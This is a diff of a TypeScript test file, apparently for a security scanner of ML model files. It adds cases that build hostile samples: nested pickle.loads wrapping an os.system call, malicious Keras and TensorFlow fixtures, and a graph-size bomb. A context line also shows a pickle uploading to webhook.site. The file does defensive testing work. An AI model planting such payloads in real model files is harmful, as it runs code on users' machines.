@@ -24,6 +24,20 @@ async function gzip(bytes: Uint8Array): Promise<Uint8Array> {
   return new Uint8Array(await new Response(stream).arrayBuffer());
 }
 
+/** `inner`, wrapped `times` times in a protocol-3 pickle that calls `pickle.loads` on it (SHORT_BINBYTES, under 256). */
+function loadsNested(inner: Uint8Array, times: number): Uint8Array {
+  let pickle = inner;
+  for (let i = 0; i < times; i++) {
+    pickle = concat(
+      latin1("\x80\x03cpickle\nloads\n(C"),
+      Uint8Array.of(pickle.length),
+      pickle,
+      latin1("tR."),
+    );
+  }
+  return pickle;
+}
+
 /** A protocol-2 list that holds the previous list twice, 30 times over: 2^30 references. */
 function doublingLists(times: number): Uint8Array {
   const ops = [0x80, 0x02, 0x5d, 0x71, 0x00]; // PROTO 2, EMPTY_LIST, BINPUT 0
@@ -130,7 +144,8 @@ const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> =
     files: { "model.pkl": latin1("cmylib\nupload\n(Vhttps://webhook.site/0c1d\ntR.") },
     options: { blacklist: ["webhook.site"] },
   }),
-  MA006: () => ({ files: { "model.h5": latin1("\x89HDF\r\n\x1a\n" + "\0".repeat(504)) } }),
+  // pickle.loads of a pickle that calls pickle.loads of ... os.system, three deep, scanned with --max-depth 1.
+  MA006: () => ({ files: { "model.pkl": loadsNested(OS_SYSTEM, 3) }, options: { limits: { maxDepth: 1 } } }),
   MA007: () => ({
     files: { "pytorch_model.bin": Uint8Array.from({ length: 512 }, (_, i) => (i * 193 + 71) % 256) },
   }),
@@ -306,6 +321,31 @@ const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> =
     },
     scanOnly: "model.onnx",
   }),
+  // Keras models saved by Keras 2 and 3 (HDF5 and .keras), then edited as the example says.
+  MA400: fixtureCase("model.h5", "keras/malicious/lambda_os_system.h5"),
+  MA401: fixtureCase("model.keras", "keras/suspicious/lambda_arithmetic.keras"),
+  MA402: fixtureCase("model.h5", "keras/malicious/lambda_garbage.h5"),
+  MA403: fixtureCase("model.keras", "keras/malicious/module_injection.keras"),
+  MA404: fixtureCase("model.keras", "keras/suspicious/custom_module.keras"),
+  MA405: fixtureCase("model.keras", "keras/malicious/unsafe_switch.keras"),
+  MA406: fixtureCase("model.keras", "keras/malicious/tfsm_layer.keras"),
+  MA407: fixtureCase("model.keras", "keras/malicious/torch_module.keras"),
+  MA408: fixtureCase("model.keras", "keras/malicious/unexpected_member.keras"),
+  MA409: fixtureCase("model.keras", "keras/malicious/bad_config.keras"),
+  MA410: fixtureCase("model.h5", "keras/malicious/truncated.h5"),
+  MA411: fixtureCase("model.h5", "keras/malicious/external_link.h5"),
+  MA412: fixtureCase("model.h5", "keras/malicious/user_block.h5"),
+  MA413: fixtureCase("model.h5", "keras/suspicious/dense_attributes_deep.h5"),
+  // TensorFlow graphs written by TensorFlow (SavedModels, frozen GraphDefs), then edited as the example says.
+  MA430: fixtureCase("saved_model.pb", "tensorflow/malicious/pyfunc/saved_model.pb"),
+  MA431: fixtureCase("frozen.pb", "tensorflow/malicious/read_file_frozen.pb"),
+  MA432: fixtureCase("saved_model.pb", "tensorflow/malicious/restore_fixed_path/saved_model.pb"),
+  MA433: fixtureCase("frozen.pb", "tensorflow/malicious/custom_op.pb"),
+  MA434: fixtureCase("saved_model.pb", "tensorflow/malicious/truncated/saved_model.pb"),
+  // GraphDef.node (field 1) three million times, each an empty NodeDef.
+  MA435: () => ({ files: { "graph.pb": new Uint8Array(6_000_000).map((_, i) => i % 2 === 0 ? 0x0a : 0) } }),
+  MA436: fixtureCase("keras_metadata.pb", "tensorflow/malicious/keras_lambda/keras_metadata.pb"),
+  MA437: fixtureCase("keras_metadata.pb", "tensorflow/malicious/keras_lambda/keras_metadata.pb"),
   MA500: () => ({
     files: {
       "tokenizer_config.json": text(
